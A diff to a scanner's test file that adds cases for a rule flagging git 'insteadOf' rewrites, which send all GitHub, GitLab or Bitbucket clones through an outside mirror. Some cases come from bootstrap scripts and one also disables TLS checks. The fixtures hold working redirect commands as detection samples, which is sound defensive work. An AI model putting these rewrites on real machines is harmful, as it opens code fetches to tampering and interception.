@@ -87,6 +87,16 @@ describeRuleCases('exfil-channels', [
     negative: sh('git config --global url."git@github.com:".insteadOf https://github.com/'),
   },
   {
+    id: 'SG-EXFIL-024',
+    // A bootstrap script routes every GitLab clone on the machine through a "cache" held in a variable.
+    file: 'scripts/bootstrap.sh',
+    positive:
+      'CACHE_BASE="https://clone-cache.buildfast.io/gl/"\ngit config --global url."$CACHE_BASE".insteadOf "https://gitlab.com/"\n',
+    // The same variable holding a protocol swap on GitLab itself.
+    negative:
+      'CACHE_BASE="git@gitlab.com:"\ngit config --global url."$CACHE_BASE".insteadOf "https://gitlab.com/"\n',
+  },
+  {
     id: 'SG-EXFIL-029',
     // A config template with a second push URL and a plain-text credential store for it.
     file: 'assets/sync.gitconfig.tmpl',
@@ -208,6 +218,29 @@ describe('exfil-channels severity', () => {
   it('should keep a rewrite of fetches and pushes (a corporate mirror) at MEDIUM', () => {
     const cfg = '[url "https://git-mirror.corp.example/github/"]\n    insteadOf = https://github.com/\n';
     expect(sev('SG-EXFIL-024', cfg, 'conf/gitconfig')).toEqual(['MEDIUM']);
+  });
+
+  it('should rate a script-set global clone rewrite of a code host HIGH unless the documentation names the host', () => {
+    const scriptText =
+      'readonly MIRROR="https://git.mirrorhub.example/bb/"\nsudo git config --system url."${MIRROR}".insteadOf https://bitbucket.org/\n';
+    expect(sev('SG-EXFIL-024', scriptText, 'scripts/setup.sh')).toEqual(['HIGH']);
+    const docs = {
+      'SKILL.md': '# Mirror\n\nBitbucket clones go through our mirror at git.mirrorhub.example.\n',
+    };
+    expect(sev('SG-EXFIL-024', scriptText, 'scripts/setup.sh', docs)).toEqual(['MEDIUM']);
+  });
+
+  it('should keep a global clone rewrite shown in the instructions at MEDIUM', () => {
+    const text = sh(
+      'git config --global url."https://gitproxy.corp.example/github/".insteadOf https://github.com/',
+    );
+    expect(sev('SG-EXFIL-024', text)).toEqual(['MEDIUM']);
+  });
+
+  it('should rate a clone rewrite to a host whose TLS checks are switched off HIGH', () => {
+    const cfg =
+      '[http "https://mirror.fastclone.example/"]\n    sslVerify = false\n[url "https://mirror.fastclone.example/gh/"]\n    insteadOf = https://github.com/\n';
+    expect(sev('SG-EXFIL-024', cfg, 'conf/gitconfig')).toEqual(['HIGH']);
   });
 
   it('should keep a documented second push URL without credential store or include at MEDIUM', () => {
